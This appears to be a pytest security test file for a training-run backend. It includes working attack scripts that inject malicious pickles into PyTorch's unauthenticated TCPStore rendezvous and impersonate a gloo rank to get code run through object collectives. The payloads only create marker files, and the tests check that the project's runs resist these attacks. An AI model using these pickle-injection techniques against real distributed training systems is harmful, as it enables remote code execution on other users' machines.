"""Attacks on the processes of a run by another user of the machine, and by another host.

torch's TCPStore has no authentication, torchrun unpickles what is in its own, and torch's object collectives unpickle
what any process sends that gloo takes for a rank. The tests first show that the attack works.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager, suppress
from datetime import datetime
from pathlib import Path
from typing import Any

import psutil
import pytest
from fork_server import ForkServer
from network_hosts import ADDRESSES, NetworkHost, two_hosts
from parameters import soak_except
from privileges import needs_root
from training_runs import environment, last_step, log_text, make_spec

from backend.launch.plan import plan
from backend.machine import Machine
from backend.runs import RUN_MARKER, Plan, processes
from backend.runs.folder import Run

pytestmark = needs_root

OTHER_USER = 65534
# Writes a pickle that creates a file into each rendezvous state that is found at the given addresses.
ATTACK = """
import base64, os, pickle, signal, sys
from datetime import timedelta
from torch.distributed import TCPStore
user, marker, *addresses = sys.argv[1:]
os.setgroups([]), os.setgid(int(user)), os.setuid(int(user))  # only now: it may not read Python and the libraries
class Code:
    def __reduce__(self):
        return open, (marker, "w")
for address in addresses:
    if os.fork():
        continue
    signal.alarm(5)  # gloo does not answer; meanwhile the run trains on all cores
    host, port = address.split(":")
    store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False)
    keys = store.list_keys()
    print("a store answers:", address, flush=True)
    for key in {key.split("/")[0] for key in keys}:
        if key.startswith("torch.rendezvous."):
            store.set(key, base64.b64encode(pickle.dumps(Code())))
    os._exit(0)
for _ in addresses:
    os.wait()
"""
SLEEP = "import time; time.sleep(600)"
UNSAFE = [sys.executable, "-m", "torch.distributed.run", "--standalone", "--nproc-per-node=1", "--no-python"]


def attack(marker: Path, addresses: list[str], host: NetworkHost | None = None) -> str:
    """The output of the attack, by another user or from another host."""
    command = [sys.executable, "-c", ATTACK, str(OTHER_USER), str(marker), *addresses]
    if host:
        command = ["nsenter", "--target", str(host.init_pid), "--net", "--", *command]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout


def listening(pids: Iterable[int]) -> list[str]:
    """The addresses at which the processes listen."""
    found = []
    for pid in pids:
        try:
            connections = psutil.Process(pid).net_connections("inet")
        except psutil.NoSuchProcess:
            continue
        found += [f"{c.laddr.ip}:{c.laddr.port}" for c in connections if c.status == psutil.CONN_LISTEN]
    return found


def wait_for(condition: Callable[[], object], about: Callable[[], object], seconds: float = 240) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, about()
        time.sleep(0.1)


@contextmanager
def unsafe_torchrun(prefix: list[str], ports_of: Callable[[list[int]], list[Any]]) -> Iterator[list[Any]]:
    """The ports of `torchrun --standalone`, which `ports_of` finds, given its processes."""
    process = subprocess.Popen([*prefix, *UNSAFE, sys.executable, "-c", SLEEP], start_new_session=True)
    try:
        tree = [process.pid]

        def ports() -> list[Any]:
            tree[:] = [process.pid, *(child.pid for child in psutil.Process(process.pid).children(recursive=True))]
            return ports_of(tree)

        wait_for(ports, lambda: "torchrun has no store")
        yield ports()
    finally:
        for pid in reversed(tree):
            with suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        process.wait(30)


def test_the_attack_works_on_torchrun_standalone(tmp_path: Path) -> None:
    """Otherwise the other tests would show nothing."""
    with unsafe_torchrun([], listening) as addresses:
        reachable = [f"127.0.0.1:{address.rpartition(':')[2]}" for address in addresses]
        assert "a store answers" in attack(tmp_path / "code-ran", reachable)
        wait_for((tmp_path / "code-ran").exists, lambda: "the pickle was not read", 30)
    assert (tmp_path / "code-ran").stat().st_uid == 0, "torchrun has run the code of the other user as its own"


KINDS: Mapping[str, dict[str, Any]] = {
    "single": {"parallel.strategy": "single"},
    "ddp": {"parallel.strategy": "ddp"},
    "zero2": {"parallel.strategy": "zero2"},
    "fsdp2": {"parallel.strategy": "fsdp2"},
    "elastic": {
        "parallel.strategy": "ddp",
        "launch.rendezvous": "elastic",
        "launch.nnodes": 1,
        "save.strategy": "steps",
    },
    "accelerate": {"parallel.strategy": "ddp", "launch.launcher": "accelerate"},
    "deepspeed": {"parallel.strategy": "ddp", "launch.launcher": "deepspeed"},
    "python": {"parallel.strategy": "single", "launch.launcher": "python"},
}
IN_MAKE_TEST = ("ddp",)


@pytest.mark.parametrize("kind", soak_except(KINDS, IN_MAKE_TEST))
def test_another_user_reaches_no_store_of_a_run(tmp_path: Path, fork_server: ForkServer, kind: str) -> None:
    """On one node a run listens on the loopback interface only, no store answers there, and the files in which its
    processes meet cannot be opened."""
    tmp_path.chmod(0o711)
    changes = {"method.kind": "full", "train.max_steps": 5000, "launch.omp_num_threads": 1, **KINDS[kind]}
    plan_ = plan(make_spec(changes), Machine(cores=2, python=str(fork_server.python)))
    with training(tmp_path, fork_server, plan_) as run:
        forked = processes.run_processes(run.path) | fork_server.leftover_processes(0)
        addresses = listening([process.pid for process in forked])
        assert {address.rpartition(":")[0] for address in addresses} <= {"127.0.0.1"}
        assert bool(addresses) == (kind not in ("single", "python")), "gloo listens"
        assert attack(tmp_path / "code-ran", addresses) == ""
        for file in (*run.path.glob("ranks/rendezvous"), *run.path.glob("ranks/**/store")):
            opened = subprocess.run(["cat", file], user=OTHER_USER, group=OTHER_USER, extra_groups=[], check=False)
            assert opened.returncode, f"another user can read {file}"
        step = last_step(run.path)
        wait_for(lambda: last_step(run.path) > step + 2, lambda: log_text(run.path))
        run.stop(save=False)
        wait_for(lambda: run.state == "stopped", lambda: log_text(run.path))
    assert not (tmp_path / "code-ran").exists()


@contextmanager
def training(root: Path, fork_server: ForkServer, plan_: Plan) -> Iterator[Run]:
    """A run that trains, started as the page starts it; no process is left."""
    run = Run.create(root / "runs", "attacked", plan_, datetime.now())
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment(run.path, fork_server.cache).items():
            patch.setenv(name, value)
        patch.delenv(RUN_MARKER)
        run.start()
        try:
            wait_for(lambda: last_step(run.path) > 1 or run.state == "failed", lambda: log_text(run.path))
            assert run.state == "running", log_text(run.path)
            yield run
        finally:
            processes.terminate(run.path, sigterm_seconds=0)
    assert not processes.run_processes(run.path) and not fork_server.leftover_processes()


def open_ports(host: NetworkHost) -> list[int]:
    """The ports of a host that other hosts reach."""
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{host.init_pid}/net/{table}").read_text().splitlines()[1:]:
            address, port = line.split()[1].split(":")
            if line.split()[3] == "0A" and address != "0100007F":  # listens, and not on 127.0.0.1
                found.append(int(port, 16))
    return found


@pytest.mark.soak
def test_another_host_reaches_nothing(tmp_path: Path, cache: Path) -> None:
    """A store of torchrun --standalone is open to the network, and nothing of a run on one node is."""
    with two_hosts() as (victim, attacker):
        enter = ["nsenter", "--target", str(victim.init_pid), "--net", "--"]
        with unsafe_torchrun(enter, lambda _: open_ports(victim)):
            addresses = [f"{ADDRESSES[0]}:{port}" for port in open_ports(victim)]
            assert "a store answers" in attack(tmp_path / "code-ran", addresses, attacker)
            wait_for((tmp_path / "code-ran").exists, lambda: "the pickle was not read", 30)
        changes = {"method.kind": "full", "train.max_steps": 5000, "launch.omp_num_threads": 1, **KINDS["ddp"]}
        plan_ = plan(make_spec(changes), Machine(cores=2, python=sys.executable))
        run = Run.create(tmp_path / "runs", "attacked", plan_, datetime.now())
        victim.start([str(run.path / "run.sh")], environment(run.path, cache))
        wait_for(lambda: last_step(run.path) > 1, lambda: log_text(run.path))
        assert open_ports(victim) == []
        victim.kill()  # with the run


# Rank 0 is a rank of a run; rank 1 is another process that gloo takes for its rank 1.
RANK_0 = """
import sys
from backend.train import exit, rendezvous
sys.excepthook = exit.print_error
if sys.argv[1] == "signed":
    rendezvous.apply()
    rendezvous.store_file = lambda: sys.argv[2]
    rendezvous._shared_key = lambda store, rank, world: b"k" * 32
import torch.distributed as dist
store = dist.PrefixStore("default_pg", dist.FileStore(sys.argv[2], 2))  # as torch makes it of that of env://
dist.init_process_group("gloo", **({} if sys.argv[1] == "signed" else {"store": store, "rank": 0, "world_size": 2}))
dist.all_gather_object([None, None], "hello")
"""
IMPOSTOR = """
import sys
import torch.distributed as dist
class Code:
    def __reduce__(self):
        return open, (sys.argv[2], "w")
store = dist.PrefixStore("default_pg", dist.FileStore(sys.argv[1], 2))
dist.init_process_group("gloo", store=store, rank=1, world_size=2)
try:
    dist.all_gather_object([None, None], Code())
except Exception:  # it cannot read what rank 0 sends
    pass
"""


@pytest.mark.parametrize("kind", [pytest.param("unsigned", marks=pytest.mark.soak), "signed"])
def test_objects_of_an_impostor_are_not_unpickled(tmp_path: Path, kind: str) -> None:
    """gloo identifies a rank by a number that anyone can guess, so the pickle itself must prove where it comes from."""
    ranks = {"RANK": "0", "WORLD_SIZE": "2", "LOCAL_WORLD_SIZE": "2", "GLOO_SOCKET_IFNAME": "lo"}
    store, marker = str(tmp_path / "store"), tmp_path / "code-ran"
    command = [sys.executable, "-c", RANK_0, kind, store]
    with subprocess.Popen(command, env={**os.environ, **ranks}, stderr=subprocess.PIPE, text=True) as victim:
        try:
            impostor = [sys.executable, "-c", IMPOSTOR, store, str(marker)]
            subprocess.run(impostor, env={**os.environ, **ranks}, timeout=120, check=False)
            said = victim.communicate(timeout=120)[1]
        finally:
            victim.kill()
    if kind == "unsigned":
        assert marker.exists(), "the attack works on torch's object collectives"
    else:
        assert victim.returncode and "does not belong to this run has taken the place of a rank" in said, said
        assert not marker.exists()
